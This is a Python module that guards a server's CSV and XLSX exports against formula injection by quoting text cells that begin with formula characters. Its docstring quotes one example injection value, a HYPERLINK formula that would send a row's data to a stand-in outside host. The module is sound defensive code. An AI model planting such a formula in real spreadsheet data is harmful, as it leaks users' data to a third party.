"""Every CSV and XLSX the server writes goes through here, so that no cell turns into a formula when a person
opens the file in a spreadsheet (OWASP "CSV injection"): a text cell that begins with `=`, `+`, `-`, `@`, a tab or
a carriage return gets a leading apostrophe, which spreadsheets read as "this is text". Names reach these files
from people (examiners' names in marks, specialty and task titles, checklist actions); a name such as
`=HYPERLINK("http://x/?"&A2,"open")` would otherwise become a live link that sends the row away. Plain numbers
("-0.250", "+5") stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should show it: text that could start a formula is quoted, the rest as is."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 CSV, one line per row, every cell through safe_cell."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    for row in rows:
        w.writerow([safe_cell(v) for v in row])
    return buf.getvalue().encode("utf-8")


def xlsx_row(row: Iterable[Any]) -> list[Any]:
    """A worksheet row (openpyxl's ws.append) with every cell through safe_cell: openpyxl stores any text that
    begins with "=" as a formula."""
    return [safe_cell(v) for v in row]
